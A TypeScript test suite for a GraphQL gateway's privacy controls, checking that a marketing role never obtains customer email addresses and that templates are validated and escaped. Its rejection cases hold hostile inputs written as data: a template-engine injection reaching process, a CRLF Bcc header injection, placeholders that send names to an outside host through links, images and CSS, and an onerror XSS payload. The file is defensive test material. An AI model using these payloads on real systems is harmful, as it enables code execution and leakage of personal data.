import { describeOnEachDatabase, errorCodes } from '../support/gateway';
import { MARKETING, expectBadInput, writesThrough } from '../support/mutations';
import { CAMPAIGN, mailThrough, newCampaign, SCHEDULE_CAMPAIGN } from '../support/mail';

const CAMPAIGNS = `{ campaigns(first: 100) { edges { node { id topic subject status sendAt recipients sent skipped failed } } } }`;

/**
 * Thinking like a marketer who wants the list: nothing MARKETING can ask — a customer,
 * the audience, a campaign, its counts, its errors, the audit trail — answers with an
 * address, and the templates cannot be made to print one.
 */
describeOnEachDatabase('MARKETING never learns an address', (gateway) => {
  const { register, run } = writesThrough(gateway);
  const mailer = mailThrough(gateway, { maxAttempts: 1 });

  test('Customer.email is withheld from the MARKETING purpose, directly and in the audience', async () => {
    const customer = await register({ consents: ['PROMOTIONS'] });
    const direct = await gateway().query(MARKETING, `query($id: ID!) { customer(id: $id) { id email } }`, {
      id: customer.id,
    });
    expect(direct.data.customer).toEqual({ id: customer.id, email: null });
    expect(errorCodes(direct)).toEqual(['PURPOSE_NOT_ALLOWED Customer.email']);
    const audience = await gateway().query(
      MARKETING,
      `{ marketingAudience(topic: PROMOTIONS, first: 100) { edges { node { id email } } } }`,
    );
    const nodes = audience.data.marketingAudience.edges.map((edge: any) => edge.node);
    expect(nodes).toContainEqual({ id: customer.id, email: null });
    expect(nodes.every((node: { email: string | null }) => node.email === null)).toBe(true);
    expect(JSON.stringify(audience)).not.toContain('@');
  });

  test('a campaign, its list, its counts and its failures carry no address; the failure is kept as a code', async () => {
    const refused = await register({ consents: ['NEWSLETTER'] });
    const address = await mailer.emailOf(refused.id);
    mailer.smtp.refuse = (to) => to === address;
    const campaign = (await run(MARKETING, SCHEDULE_CAMPAIGN, { input: newCampaign({ topic: 'NEWSLETTER' }) }))
      .scheduleCampaign;
    await mailer.worker.drain();
    mailer.smtp.refuse = () => false;

    const seen = [
      await gateway().query(MARKETING, CAMPAIGN, { id: campaign.id }),
      await gateway().query(MARKETING, CAMPAIGNS),
    ];
    expect(seen[0].data.campaign).toMatchObject({ status: 'FINISHED', failed: 1 });
    for (const response of seen) {
      expect(response.errors).toBeUndefined();
      expect(JSON.stringify(response)).not.toMatch(/@|example\.vn/);
    }
    const [row] = await gateway().database.dataSource.query(
      `SELECT status, last_error FROM outbox_messages WHERE campaign_id = $1 AND customer_id = $2`,
      [campaign.id, refused.id],
    );
    expect(row).toEqual({ status: 'FAILED', last_error: 'EENVELOPE 451' });
  });

  test('each message is audited as a use of Customer.email under MARKETING for that customer, without the address', async () => {
    const customer = await register({ consents: ['OFFERS'] });
    const campaign = (await run(MARKETING, SCHEDULE_CAMPAIGN, { input: newCampaign({ topic: 'OFFERS' }) }))
      .scheduleCampaign;
    await mailer.worker.drain();
    const rows = await gateway().database.dataSource.query(
      `SELECT t.* FROM audit_trail t JOIN outbox_messages m ON m.id = t.request_id
        WHERE m.campaign_id = $1 AND m.customer_id = $2`,
      [campaign.id, customer.id],
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      principal_id: 'test-marketing',
      role: 'MARKETING',
      purpose: 'MARKETING',
      customer_ids: [customer.id],
      fields: ['Customer.email'],
      decision: 'SENT',
      reason: null,
    });
    expect(JSON.stringify(rows)).not.toContain(await mailer.emailOf(customer.id));
    // The trail is the privacy officer's; MARKETING cannot read it.
    const trail = await gateway().query(MARKETING, `{ auditEvents(first: 10) { edges { node { id } } } }`);
    expect(errorCodes(trail)).toEqual(['FORBIDDEN']);
  });

  test.each([
    ['a placeholder of ours misspelt', { text: 'Hi {{firstname}}' }, ['input', 'text']],
    ['the address asked for', { text: 'Your address: {{email}}' }, ['input', 'text']],
    [
      'a template-engine expression',
      { html: '<p>{{constructor.constructor("return process")()}}</p>' },
      ['input', 'html'],
    ],
    ['a helper block', { html: '{{#each customers}}{{this}}{{/each}}' }, ['input', 'html']],
    ['an unclosed placeholder', { text: 'Hi {{firstName' }, ['input', 'text']],
    ['a placeholder in the subject', { subject: 'Hi {{firstName}}' }, ['input', 'subject']],
    ['a header smuggled into the subject', { subject: 'Hi\r\nBcc: all@example.vn' }, ['input', 'subject']],
    [
      'the name glued into a link of the text',
      { text: 'See https://elsewhere.example/?n={{fullName}}' },
      ['input', 'text'],
    ],
    [
      'the name in a remote image',
      { html: '<img src="https://elsewhere.example/p?n={{firstName}}">' },
      ['input', 'html'],
    ],
    [
      'the link carried to another site',
      { html: '<a href="https://elsewhere.example/?u={{unsubscribeUrl}}">x</a>' },
      ['input', 'html'],
    ],
    [
      'the name in a style rule',
      { html: '<style>p{background:url(//elsewhere.example/{{fullName}})}</style>' },
      ['input', 'html'],
    ],
  ])('scheduling refuses %s with BAD_USER_INPUT and writes nothing', async (_label, overrides, path) => {
    const before = await gateway().database.dataSource.query('SELECT count(*)::int AS n FROM campaigns');
    expectBadInput(await gateway().query(MARKETING, SCHEDULE_CAMPAIGN, { input: newCampaign(overrides) }), path);
    expect(await gateway().database.dataSource.query('SELECT count(*)::int AS n FROM campaigns')).toEqual(before);
  });

  test('placeholders standing as words, and the unsubscribe link as a link target, are accepted', async () => {
    const input = newCampaign({
      text: 'Chào {{firstName}}, ({{fullName}})! Ngừng nhận: {{unsubscribeUrl}}',
      html: '<p>Chào <b>{{firstName}}</b>!</p><a href="{{unsubscribeUrl}}">Ngừng nhận</a>',
    });
    expect((await gateway().query(MARKETING, SCHEDULE_CAMPAIGN, { input })).errors).toBeUndefined();
  });

  test('a name that looks like markup or a placeholder is escaped in HTML and never expanded', async () => {
    const customer = await register({
      fullName: 'Lê <img src=x onerror=alert(1)> {{unsubscribeUrl}}',
      consents: ['PROMOTIONS'],
    });
    await run(MARKETING, SCHEDULE_CAMPAIGN, {
      input: newCampaign({ topic: 'PROMOTIONS', text: 'Hi {{fullName}}', html: '<p>Hi {{fullName}}</p>' }),
    });
    await mailer.worker.drain();
    const [{ mail }] = mailer.smtp.to(await mailer.emailOf(customer.id));
    expect(mail.html).toContain('<p>Hi Lê &lt;img src=x onerror=alert(1)&gt; {{unsubscribeUrl}}</p>');
    expect(mail.html).not.toContain('<img');
    expect(mail.text).toContain('Hi Lê <img src=x onerror=alert(1)> {{unsubscribeUrl}}\n');
  });
});
